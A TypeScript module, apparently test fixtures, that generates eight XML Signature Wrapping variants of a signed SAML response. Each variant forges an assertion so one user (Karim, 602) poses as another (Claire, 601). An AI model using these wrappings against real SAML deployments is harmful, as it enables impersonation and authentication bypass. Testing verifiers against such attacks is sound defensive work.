/* How an answer of SAML is wrapped by who holds a signed one and wants to be somebody else: Karim instead of Claire, 602 instead of 601. */

/** The parts of an answer in clear: what stands before its assertion, the assertion, what follows, and the answer's own signature. */
function parted(xml: string): { head: string; assertion: string; tail: string } {
  const [, head = '', assertion = '', tail = ''] = /^(.*?)(<saml:Assertion .*<\/saml:Assertion>)(.*)$/s.exec(xml) ?? [];
  return { head, assertion, tail };
}
const signatureOf = (xml: string): string => /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)?.[0] ?? '';
const renamed = (xml: string): string => xml.replace(/ ID="[^"]+"/, ' ID="_evil"');
const evil = (xml: string): string =>
  renamed(xml).replaceAll('claire.roux@', 'karim.benali@').replaceAll('|601', '|602');

/** The eight wrappings of a signed answer: what was signed goes where it is checked, something else where it is read. */
export const wrappings: readonly ((xml: string) => string)[] = [
  // 1: the signed answer inside the signature of an evil one.
  (xml) => {
    const bare = xml.replace(signatureOf(xml), '');
    const signature = signatureOf(xml).replace('</ds:Signature>', `<ds:Object>${bare}</ds:Object></ds:Signature>`);
    return evil(bare).replace(/(<\/saml:Issuer>)/, `$1${signature}`);
  },
  // 2: the signed answer beside its signature, in an evil one.
  (xml) => {
    const bare = xml.replace(signatureOf(xml), '');
    return evil(bare).replace(/(<\/saml:Issuer>)/, `$1${bare}${signatureOf(xml)}`);
  },
  // 3: an evil assertion before the signed one.
  (xml) => {
    const { head, assertion, tail } = parted(xml);
    return `${head}${evil(assertion.replace(signatureOf(assertion), ''))}${assertion}${tail}`;
  },
  // 4: the signed assertion inside the evil one.
  (xml) => {
    const { head, assertion, tail } = parted(xml);
    const outer = evil(assertion.replace(signatureOf(assertion), ''));
    return `${head}${outer.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`)}${tail}`;
  },
  // 5: the signature in the evil one, what it signs at the end.
  (xml) => {
    const { head, assertion, tail } = parted(xml);
    const signature = signatureOf(assertion);
    const bare = assertion.replace(signature, '');
    return `${head}${evil(bare).replace('</saml:Issuer>', `</saml:Issuer>${signature}`)}${bare}${tail}`;
  },
  // 6: the same, what it signs inside the signature.
  (xml) => {
    const { head, assertion, tail } = parted(xml);
    const signature = signatureOf(assertion);
    const bare = assertion.replace(signature, '');
    const around = signature.replace('</ds:Signature>', `${bare}</ds:Signature>`);
    return `${head}${evil(bare).replace('</saml:Issuer>', `</saml:Issuer>${around}`)}${tail}`;
  },
  // 7: the evil one among extensions.
  (xml) => {
    const { head, assertion, tail } = parted(xml);
    const extension = `<samlp:Extensions>${evil(assertion.replace(signatureOf(assertion), ''))}</samlp:Extensions>`;
    return `${head}${extension}${assertion}${tail}`;
  },
  // 8: the signed one in an object of the signature.
  (xml) => {
    const { head, assertion, tail } = parted(xml);
    const signature = signatureOf(assertion);
    const bare = assertion.replace(signature, '');
    const around = signature.replace('</ds:Signature>', `<ds:Object>${bare}</ds:Object></ds:Signature>`);
    return `${head}${evil(bare).replace('</saml:Issuer>', `</saml:Issuer>${around}`)}${tail}`;
  },
];
